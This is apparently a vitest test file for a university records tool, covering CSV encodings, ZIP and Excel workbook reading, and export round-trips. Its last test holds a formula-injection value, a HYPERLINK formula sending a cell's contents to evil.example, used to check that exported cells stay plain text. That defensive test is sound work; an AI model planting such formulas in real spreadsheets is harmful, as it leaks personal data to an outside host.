import { readdir, readFile, rm, stat } from 'node:fs/promises'
import { join } from 'node:path'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import type { RecordFile } from '../record-file.ts'
import { emptyUniversity, exportFiles, importFiles } from '../test-records.ts'
import { exportRecords } from '../export-records.ts'
import { openRecords } from './open-records.ts'
import { newDir, toTextRow, writeFiles, writeWorkbook, writeZip } from './test-files.ts'
import { writeRecords } from './write-records.ts'

const readAll = async (file: RecordFile) => ({
  name: file.name,
  label: file.label,
  columns: file.columns,
  rows: await Array.fromAsync(file.rows(), ({ line, values }) => [line, ...values]),
})
const read = async (path: string) => {
  const { files, bad, close } = await openRecords(path)
  const tables = await Promise.all(files.map(readAll))
  await close()
  return { tables, bad }
}

const schools = 'code,name_ka,name_en\nLAW,სამართალი,Law\nART,"ხელოვნება, დიზაინი","Art ""and"" design"\n'
const rows = [
  [2, 'LAW', 'სამართალი', 'Law'],
  [3, 'ART', 'ხელოვნება, დიზაინი', 'Art "and" design'],
]

describe('a folder', () => {
  const utf16 = (text: string, isBig: boolean) => {
    const bytes = Buffer.from(`\uFEFF${text}`, 'utf16le')
    return isBig ? bytes.swap16() : bytes
  }

  it.each<[string, string | Uint8Array]>([
    ['UTF-8', schools],
    ['UTF-8 with a byte order mark', `\uFEFF${schools}`],
    ['UTF-16 of Excel', utf16(schools.replaceAll(',', '\t').replace('ა\t დ', 'ა, დ'), false)],
    ['UTF-16 the other way round', utf16(schools, true)],
    ['semicolons', 'code;name_ka;name_en\nLAW;სამართალი;Law\nART;ხელოვნება, დიზაინი;"Art ""and"" design"'],
    ['tabs and CRLF', schools.replaceAll(',', '\t').replace('ა\t დ', 'ა, დ').replaceAll('\n', '\r\n')],
  ])('is read: %s', async (_name, text) => {
    const { tables } = await read(await writeFiles({ 'schools.csv': text }))
    expect(tables).toEqual([
      { name: 'schools', label: 'schools.csv', columns: ['code', 'name_ka', 'name_en'], rows },
    ])
  })

  it('and its files are recognized in either case', async () => {
    const { tables } = await read(await writeFiles({ 'Schools.CSV': schools, 'Module subjects.csv': 'x\n' }))
    expect(tables.map(({ name }) => name)).toEqual(['module_subjects', 'schools'])
  })

  it('names the line of a value that has several', async () => {
    const { tables } = await read(await writeFiles({ 'a.csv': 'x,y\n1,"one\ntwo"\n2,b\n\n3,c\n' }))
    expect(tables[0]?.rows).toEqual([
      [2, '1', 'one\ntwo'],
      [4, '2', 'b'],
      [5, '3', 'c'],
    ])
  })
})

describe('a ZIP file', () => {
  it('is read, whatever folder its files are in', async () => {
    const path = await writeZip({
      'autumn/schools.csv': schools,
      '__MACOSX/autumn/schools.csv': 'nonsense',
      'autumn/readme.txt': 'not read',
    })
    const { tables } = await read(path)
    expect(tables).toEqual([
      { name: 'schools', label: 'records.zip, schools.csv', columns: ['code', 'name_ka', 'name_en'], rows },
    ])
  })
})

describe('a file whose name ends in capital letters', () => {
  it('is read, in a folder and in a ZIP file', async () => {
    const zip = await writeZip({ 'SCHOOLS.CSV': schools.replace('LAW', 'X') })
    expect((await read(zip)).tables[0]).toMatchObject({ label: 'records.zip, SCHOOLS.csv' })
    const folder = await writeFiles({ 'schools.CSV': schools })
    expect((await read(folder)).tables[0]).toMatchObject({ name: 'schools', rows })
  })
})

describe('a workbook', () => {
  const styles =
    '<numFmts><numFmt numFmtId="164" formatCode="00000000000"/><numFmt numFmtId="165" formatCode="dd\\.mm\\.yyyy hh:mm"/></numFmts>' +
    '<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="20"/><xf numFmtId="164"/><xf numFmtId="165"/></cellXfs>'

  it('is read: texts, numbers, dates, times, truths, shared texts, gaps', async () => {
    const path = await writeWorkbook(
      'exams',
      `${toTextRow(1, 'a', 'b', 'c', 'd', 'e', 'f', 'g')}<row r="3"><c r="A3" t="s"><v>1</v></c><c r="B3"><v>87.5</v></c><c r="C3" s="1"><v>46339</v></c><c r="D3" s="2"><v>0.4166666666666667</v></c><c r="E3" s="3"><v>1001012345</v></c><c r="G3" t="b"><v>1</v></c></row><row r="4"><c r="C4" s="4"><v>46339.5</v></c><c r="B4"><v>0.30000000000000004</v></c></row>`,
      { styles, strings: '<si><t>no</t></si><si><r><t>ნი</t></r><r><t>ნო</t></r><rPh><t>x</t></rPh></si>' },
    )
    const { tables, bad } = await read(path)
    expect(bad).toEqual([])
    expect(tables).toEqual([
      {
        name: 'exams',
        label: 'records.xlsx, sheet exams',
        columns: ['a', 'b', 'c', 'd', 'e', 'f', 'g'],
        rows: [
          [3, 'ნინო', '87.5', '2026-11-13', '10:00', '01001012345', '', 'yes'],
          [4, '', '0.3', '2026-11-13T12:00'],
        ],
      },
    ])
  })

  it('of a Macintosh counts days from 1904', async () => {
    const path = await writeWorkbook(
      'x',
      `${toTextRow(1, 'day')}<row r="2"><c s="1"><v>44877</v></c></row>`,
      {
        styles,
        is1904: true,
      },
    )
    expect((await read(path)).tables[0]?.rows).toEqual([[2, '2026-11-13']])
  })
})

describe('what is exported', () => {
  it.each(['records', 'records.zip', 'records.xlsx'])('can be read again: %s', async (name) => {
    const { url } = await emptyUniversity()
    const files = {
      schools: [
        ['code', 'name_ka', 'name_en'],
        ['007', 'ერთი, „ორი“', 'A "quoted" <one> & two'],
        ['ART', 'ხაზი', ' x_x0041_y'],
      ],
    }
    await importFiles(url, { schools: files.schools })
    const path = join(await newDir(), name)
    const only = ['schools', 'registration_steps', 'menu_items', 'resources', 'debit_types']
    expect(await writeRecords(path, exportRecords(url, { only }))).toHaveLength(5)
    const { tables, bad } = await read(path)
    expect(bad).toEqual([])
    const exported = await exportFiles(url, only)
    for (const { name: table, columns, rows: read } of tables)
      expect([
        columns,
        ...read.map(([, ...values]) => columns.map((_column, at) => values[at] ?? '')),
      ]).toEqual(exported[table])
    const paths =
      name === 'records' ? [path, ...(await readdir(path)).map((each) => join(path, each))] : [path]
    for (const each of paths) expect([each, (await stat(each)).mode & 0o077]).toEqual([each, 0])
    await expect(writeRecords(path, exportRecords(url, { only }))).rejects.toThrow(/new (folder|file|one)/)
    await rm(path, { recursive: true })
  })

  it('has texts in a workbook, and no formula', async () => {
    const path = join(await newDir(), 'records.xlsx')
    const cell = '=HYPERLINK("http://evil.example/?"&C2,"Tbilisi")'
    const tables = async function* () {
      const rows = async function* () {
        yield ['U1', cell]
      }
      yield { name: 'students', columns: ['code', 'address_ka'], rows: rows() }
    }
    await writeRecords(path, tables())
    const sheet = strFromU8(unzipSync(await readFile(path))['xl/worksheets/sheet1.xml']!)
    expect(sheet).not.toMatch(/<f[ >]/)
    expect(sheet.match(/<c t="inlineStr"[^>]*><is><t[^>]*>=HYPERLINK/g)).toHaveLength(1)
    expect((await read(path)).tables[0]?.rows).toEqual([[2, 'U1', cell]])
  })
})
